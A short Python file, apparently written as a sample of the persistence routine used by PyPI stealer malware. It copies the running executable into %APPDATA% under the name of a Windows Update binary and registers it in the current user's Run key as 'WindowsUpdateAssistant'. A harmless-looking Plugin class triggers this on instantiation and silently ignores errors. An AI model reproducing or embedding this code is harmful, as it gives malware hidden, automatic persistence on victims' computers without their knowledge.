# Inspired by W4SP/PySilon-style PyPI stealers (2022-2023): copy the payload to %APPDATA% under a system-looking name and register it in HKCU ...\CurrentVersion\Run.
import os
import shutil
import sys

try:
    import winreg as _reg
except ImportError:  # not on Windows
    _reg = None

_RUN = "\\".join(["Software", "Microsoft", "Windows", "CurrentVersion", "Run"])


class _Installer:
    def __init__(self):
        self.dest = os.path.join(os.environ.get("APPDATA", ""), "Microsoft", "WinUpdate", "wuauclt.exe")

    def copy_self(self):
        os.makedirs(os.path.dirname(self.dest), exist_ok=True)
        shutil.copyfile(sys.executable, self.dest)

    def register(self):
        key = _reg.OpenKey(_reg.HKEY_CURRENT_USER, _RUN, 0, _reg.KEY_SET_VALUE)
        _reg.SetValueEx(key, "WindowsUpdateAssistant", 0, _reg.REG_SZ, f'"{self.dest}" -m sample')
        _reg.CloseKey(key)


class Plugin:
    def __init__(self):
        if _reg is not None:
            i = _Installer()
            try:
                i.copy_self()
                i.register()
            except OSError:
                pass
